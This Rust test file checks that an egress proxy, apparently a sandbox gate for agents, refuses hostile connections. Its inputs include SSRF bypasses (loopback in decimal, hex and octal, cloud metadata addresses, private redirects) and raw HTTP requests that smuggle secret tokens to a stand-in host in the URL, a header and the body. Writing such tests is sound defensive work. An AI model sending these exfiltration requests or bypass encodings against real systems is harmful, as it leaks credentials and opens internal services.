//! What a hostile program tries through its one way out: each attempt is
//! refused with a reason, reported to the observer, and (where it would
//! have gone to the network) never dialled.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use bulwark_net::ProxyRequestKind;

use super::{Fixture, GH, MAPS, Setup, status};
use crate::support::{redirect, serve};

/// CONNECT `target` is refused with 403, the reason names `why`, the
/// observer saw the refusal, and nothing was dialled.
async fn connect_refused(f: &Fixture, target: &str, why: &str) {
    let (_s, head) = f.tunnel(target).await;
    assert_eq!(status(&head), 403, "{target}: {head}");
    let e = f
        .events
        .wait_for(|e| e.kind == ProxyRequestKind::Connect && e.refused.is_some())
        .await;
    let reason = e.refused.unwrap_or_default();
    assert!(reason.contains(why), "{target}: {reason}");
    assert!(f.dialer.dialled().is_empty(), "{target}: dialled");
}

async fn refused_alone(target: &str, why: &str) {
    let f = Fixture::new(Setup::default()).await;
    connect_refused(&f, target, why).await;
}

#[tokio::test]
async fn connect_outside_the_allowlist() {
    refused_alone("evil.example:443", "not allowed by the egress policy").await;
}

#[tokio::test]
async fn connect_to_loopback_ssh() {
    refused_alone("127.0.0.1:22", "127.0.0.1").await;
}

#[tokio::test]
async fn connect_to_ipv4_mapped_loopback_even_on_the_test_port() {
    let f = Fixture::new(Setup::default()).await;
    let target = format!("[::ffff:127.0.0.1]:{}", f.echo);
    connect_refused(&f, &target, "which agents may never reach").await;
}

#[tokio::test]
async fn connect_to_loopback_as_decimal_and_hex_numbers() {
    refused_alone("2130706433:22", "127.0.0.1").await;
    refused_alone("0x7f000001:22", "127.0.0.1").await;
    refused_alone("0177.0.0.1:22", "127.0.0.1").await;
}

#[tokio::test]
async fn connect_to_cloud_metadata() {
    refused_alone("169.254.169.254:80", "169.254.169.254").await;
    refused_alone("metadata.google.internal:80", "metadata").await;
    refused_alone("metadata.google.internal.:80", "metadata").await;
}

#[tokio::test]
async fn connect_to_a_name_resolving_to_a_private_address() {
    let f = Fixture::new(Setup::default()).await;
    connect_refused(&f, "private.test:443", "10.0.0.5").await;
    assert_eq!(f.resolver.lookups(), ["private.test"]);
}

#[tokio::test]
async fn connect_to_an_allowed_host_on_another_port() {
    refused_alone("allowed.test:443", "port 443 is not granted").await;
}

#[tokio::test]
async fn connect_refused_by_a_held_key_without_a_grant_to_the_host() {
    let f = Fixture::new(Setup {
        held_keys: vec!["GH_TOKEN".into()],
        ..Setup::default()
    })
    .await;
    let target = format!("allowed.test:{}", f.echo);
    connect_refused(&f, &target, "holds secret GH_TOKEN").await;
}

#[tokio::test]
async fn a_held_key_with_no_grant_at_all_blocks_every_tunnel() {
    let f = Fixture::new(Setup {
        held_keys: vec!["GH_TOKEN".into(), "MAPS_KEY".into()],
        ..Setup::default()
    })
    .await;
    // api.gh.test is where GH_TOKEN may go, but MAPS_KEY may go nowhere.
    let target = format!("api.gh.test:{}", f.echo);
    connect_refused(&f, &target, "holds secret MAPS_KEY").await;
}

#[tokio::test]
async fn forward_carrying_a_secret_to_a_host_without_a_grant() {
    let (port, hits) = serve(Arc::new(|_: &str| {
        crate::support::response("200 OK", &[], b"stolen")
    }))
    .await;
    let f = Fixture::new(Setup {
        redirector: Some(port),
        ..Setup::default()
    })
    .await;
    for (req, place) in [
        (
            format!(
                "GET http://redirector.test:{port}/?q={GH} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
            ),
            "the URL",
        ),
        (
            format!(
                "GET http://redirector.test:{port}/ HTTP/1.1\r\nHost: x\r\nX-Leak: {MAPS}\r\nConnection: close\r\n\r\n"
            ),
            "header x-leak",
        ),
        (
            format!(
                "POST http://redirector.test:{port}/ HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{GH}",
                GH.len()
            ),
            "the body",
        ),
    ] {
        let answer = f.raw(req.as_bytes()).await;
        assert_eq!(status(&answer), 403, "{answer}");
        assert!(answer.contains(place), "{answer}");
        assert!(!answer.contains(GH) && !answer.contains(MAPS), "{answer}");
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0);
    let refused: Vec<_> = f
        .events
        .events()
        .into_iter()
        .filter(|e| e.kind == ProxyRequestKind::Forward && e.refused.is_some())
        .collect();
    assert_eq!(refused.len(), 3, "{refused:?}");
}

#[tokio::test]
async fn a_redirect_to_a_private_address_is_returned_not_followed() {
    let (port, hits) = serve(Arc::new(|_: &str| redirect("http://10.0.0.1/admin"))).await;
    let f = Fixture::new(Setup {
        redirector: Some(port),
        ..Setup::default()
    })
    .await;
    let answer = f.get(&format!("http://redirector.test:{port}/go")).await;
    assert_eq!(status(&answer), 302, "{answer}");
    assert!(
        answer
            .to_ascii_lowercase()
            .contains("location: http://10.0.0.1/admin"),
        "{answer}"
    );
    assert_eq!(hits.load(Ordering::SeqCst), 1);
    assert!(
        f.dialer
            .dialled()
            .iter()
            .all(|a| a.ip().is_loopback() && a.port() == port),
        "{:?}",
        f.dialer.dialled()
    );
    // Asking for the target, as a client following it would, is refused.
    let again = f.get("http://10.0.0.1/admin").await;
    assert_eq!(status(&again), 403, "{again}");
    f.events
        .wait_for(|e| e.kind == ProxyRequestKind::Forward && e.host == "10.0.0.1")
        .await;
}

#[tokio::test]
async fn https_in_absolute_form_and_origin_form_are_refused() {
    let f = Fixture::new(Setup::default()).await;
    let https = f.get("https://allowed.test/").await;
    assert_eq!(status(&https), 400, "{https}");
    assert!(https.contains("CONNECT"), "{https}");
    let origin = f.get("/local").await;
    assert_eq!(status(&origin), 400, "{origin}");
    let ftp = f.get("ftp://allowed.test/").await;
    assert_eq!(status(&ftp), 400, "{ftp}");
    let events = f.events.events();
    assert_eq!(events.len(), 3, "{events:?}");
    assert!(events.iter().all(|e| e.refused.is_some()));
    assert!(f.dialer.dialled().is_empty());
}

#[tokio::test]
async fn a_refusal_never_echoes_an_unbounded_target() {
    let f = Fixture::new(Setup::default()).await;
    let host = format!("{}.evil.example", "a".repeat(5000));
    let (_s, head) = f.tunnel(&format!("{host}:443")).await;
    let code = status(&head);
    assert!(code == 403 || code == 400 || code == 431, "{head}");
    let e = f.events.wait_for(|_| true).await;
    assert!(e.host.len() <= 255, "{}", e.host.len());
    assert!(e.refused.is_some_and(|r| r.len() <= 1024));
}
